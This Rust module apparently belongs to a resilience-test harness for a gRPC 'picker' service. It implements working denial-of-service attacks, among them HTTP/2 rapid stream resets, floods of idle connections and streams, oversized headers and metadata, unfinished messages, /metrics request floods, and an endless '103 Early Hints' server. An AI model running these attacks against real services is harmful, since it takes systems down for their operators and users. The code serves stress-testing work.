//! The attacks. Each goes on until it is dropped.

use std::future::poll_fn;
use std::io::Write;
use std::net::TcpListener;
use std::time::Duration;

use bytes::{BufMut, Bytes, BytesMut};
use futures::future::join_all;
use h2::client::SendRequest;
use picker_proto::build::{fields, first, namespace, string};
use picker_proto::processing_mode::BodySendMode::FullDuplexStreamed;
use picker_proto::processing_request::Request;
use picker_proto::{HeaderMap, HttpBody, Kind, ListValue, ProcessingRequest, Value};
use prost::Message;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

use crate::raw::{Frames, PROCESS, RST_STREAM, attacker, connect, play};

/// The pause before a connection is made anew.
const PAUSE: Duration = Duration::from_millis(100);
/// The window of streams whose answers are read.
const OPEN: u32 = 1 << 30;
/// The length of long messages, a quarter of what a picker takes by default.
const LONG: usize = 8 << 20;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    AnnouncedBodies,
    UnfinishedMessages,
    UnreadAnswers,
    LongSubsets,
    IdleStreams,
    HeadersWithoutBody,
    InformationalAnswers,
    Pages,
    Resets,
    IdleConnections,
}

impl Attack {
    /// Attacks the picker on these ports.
    pub async fn play(self, grpc: u16, pages: u16) {
        let headers = framed(&request(&[], true), 0);
        match self {
            Self::AnnouncedBodies => {
                let announced = framed(&request(&[("content-length", "1048576")], false), 0);
                streams(grpc, OPEN, 5_000, vec![join([announced, framed(&body(Side::Request, 2), 0)])]).await;
            }
            Self::UnfinishedMessages => {
                let unfinished = framed(&body(Side::Response, LONG), 1);
                streams(grpc, OPEN, 8, vec![join([headers, unfinished])]).await;
            }
            Self::UnreadAnswers => {
                let piece = framed(&body(Side::Response, 16_000), 0);
                let pieces = std::iter::repeat_n(piece, 15);
                streams(grpc, 0, 300, vec![join(std::iter::once(headers).chain(pieces))]).await;
            }
            Self::LongSubsets => {
                // As much as is taken of either kind, and more than is.
                let values = vec![string("::"); 16_000];
                let list = Value { kind: Some(Kind::ListValue(ListValue { values })) };
                let text = |endpoints| string("10.0.0.1,".repeat(endpoints));
                let subsets = [list, text(28_000), text(110_000)].map(|subset| {
                    let subset = fields([("x-gateway-destination-endpoint-subset", subset)]);
                    let metadata_context = Some(namespace("envoy.lb.subset_hint", &subset));
                    framed(&ProcessingRequest { metadata_context, ..request(&[], false) }, 0)
                });
                streams(grpc, OPEN, 120, subsets.to_vec()).await;
            }
            Self::IdleStreams => streams(grpc, OPEN, 20_000, vec![Bytes::new()]).await,
            Self::HeadersWithoutBody => {
                let long = "c".repeat(50_000);
                let headers = framed(&request(&[("cookie", &long)], false), 0);
                streams(grpc, OPEN, 500, vec![headers]).await;
            }
            Self::InformationalAnswers => std::future::pending().await,
            Self::Pages => ask_for_pages(pages).await,
            Self::Resets => reset_streams(grpc).await,
            Self::IdleConnections => connect_and_wait(grpc).await,
        }
    }
}

enum Side {
    Request,
    Response,
}

/// A body, or a piece of it, of so many bytes.
fn body(side: Side, length: usize) -> ProcessingRequest {
    let body = HttpBody { body: Bytes::from(vec![b' '; length]), end_of_stream: false };
    match side {
        Side::Request => Request::RequestBody(body),
        Side::Response => Request::ResponseBody(body),
    }
    .into()
}

fn request(more: &[(&str, &str)], ends: bool) -> ProcessingRequest {
    let usual = [(":method", "POST"), (":path", "/v1/completions"), ("content-type", "application/json")];
    let all = usual.into_iter().chain(more.iter().copied());
    let headers = HeaderMap::from_iter(all.map(|(name, value)| (name.to_owned(), value.to_owned())));
    first(headers, ends, FullDuplexStreamed, FullDuplexStreamed)
}

/// A message as gRPC has it, without its last `missing` bytes.
fn framed(message: &ProcessingRequest, missing: usize) -> Bytes {
    let mut framed = BytesMut::from(&[0][..]);
    framed.put_u32(message.encoded_len() as u32);
    message.encode(&mut framed).unwrap();
    framed.truncate(framed.len() - missing);
    framed.freeze()
}

fn join(parts: impl IntoIterator<Item = Bytes>) -> Bytes {
    parts.into_iter().flatten().collect()
}

/// So many streams on each of four connections of two addresses, each of which sends one of `sent` and no end; connections
/// and streams are made anew when they end. Streams may be answered `window` bytes.
async fn streams(port: u16, window: u32, count: usize, sent: Vec<Bytes>) {
    let connection = move |n: u8| {
        let sent = sent.clone();
        async move {
            let mut builder = h2::client::Builder::new();
            builder.initial_window_size(window).initial_connection_window_size(OPEN);
            loop {
                if let Ok(io) = connect(attacker(n % 2), port).await
                    && let Ok((client, connection)) = builder.handshake::<_, Bytes>(io).await
                {
                    let streams = (0..count).map(|at| say(client.clone(), &sent[at % sent.len()]));
                    tokio::select! {
                        _ = connection => {}
                        _ = join_all(streams) => {}
                    }
                }
                tokio::time::sleep(PAUSE).await;
            }
        }
    };
    all((0..4).map(connection)).await;
}

/// Sends `sent` on a stream, and on another when that one ends, until the connection does.
async fn say(client: SendRequest<Bytes>, sent: &Bytes) {
    loop {
        let request = http::Request::post(format!("http://picker{PROCESS}"))
            .header("content-type", "application/grpc")
            .header("te", "trailers")
            .body(())
            .unwrap();
        let Ok(mut client) = client.clone().ready().await else { return };
        let Ok((answer, mut stream)) = client.send_request(request, false) else { return };
        let sending = async {
            let mut left = sent.clone();
            while !left.is_empty() {
                stream.reserve_capacity(left.len());
                let Some(Ok(room)) = poll_fn(|cx| stream.poll_capacity(cx)).await else { break };
                if stream.send_data(left.split_to(room.min(left.len())), false).is_err() {
                    break;
                }
            }
            std::future::pending::<()>().await;
        };
        let reading = async {
            if let Ok(answer) = answer.await {
                let mut body = answer.into_body();
                while let Some(Ok(_)) = body.data().await {}
            }
        };
        tokio::select! {
            () = sending => {}
            () = reading => {}
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// Opens streams and resets them at once, without end.
async fn reset_streams(port: u16) {
    let connection = move |n: u8| async move {
        let mut read = vec![0; 64 << 10];
        loop {
            let Ok(mut io) = connect(attacker(n), port).await else {
                tokio::time::sleep(PAUSE).await;
                continue;
            };
            let (mut from, mut to) = io.split();
            let reading = async { while !matches!(from.read(&mut read).await, Ok(0) | Err(_)) {} };
            let resetting = async {
                let mut stream = 1;
                let mut frames = Frames::preface();
                while to.write_all(&frames.0).await.is_ok() && stream < 1 << 30 {
                    frames = Frames::default();
                    for _ in 0..100 {
                        frames.open(stream);
                        frames.frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                        stream += 2;
                    }
                }
            };
            tokio::select! {
                () = reading => {}
                () = resetting => {}
            }
        }
    };
    all((0..4).map(connection)).await;
}

/// Asks for pages from eight addresses, many times on each connection, and reads all.
async fn ask_for_pages(port: u16) {
    let connection = move |n: u8| async move {
        let ask = "GET /metrics HTTP/1.1\r\nhost: a\r\n\r\n".repeat(1000);
        let mut read = vec![0; 64 << 10];
        loop {
            let Ok(mut io) = connect(attacker(n % 8), port).await else {
                tokio::time::sleep(PAUSE).await;
                continue;
            };
            let (mut from, mut to) = io.split();
            let reading = async { while !matches!(from.read(&mut read).await, Ok(0) | Err(_)) {} };
            let _ = tokio::join!(to.write_all(ask.as_bytes()), reading);
        }
    };
    all((0..64).map(connection)).await;
}

/// Takes all places again and again from ten addresses, with a stream that says nothing on each connection.
async fn connect_and_wait(port: u16) {
    let connection = move |n: u32| async move {
        loop {
            if let Ok(io) = connect(attacker((n % 10) as u8), port).await {
                let mut frames = Frames::preface();
                frames.open(1);
                play(io, frames).await;
            }
            tokio::time::sleep(PAUSE).await;
        }
    };
    all((0..10_000).map(connection)).await;
}

/// All of these at once, until this is dropped.
async fn all(attackers: impl Iterator<Item = impl Future<Output = ()> + Send + 'static>) {
    attackers.collect::<JoinSet<()>>().join_all().await;
}

/// The port of a model server that answers each request with informational answers without end. It goes on until the
/// process ends.
pub fn endless_hints() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        let hints = "HTTP/1.1 103 Early Hints\r\nlink: </style.css>\r\n\r\n".repeat(1000);
        for io in listener.incoming() {
            let (mut io, hints) = (io.unwrap(), hints.clone());
            std::thread::spawn(move || {
                let _ = rustix::process::nice(19);
                while io.write_all(hints.as_bytes()).is_ok() {}
            });
        }
    });
    port
}
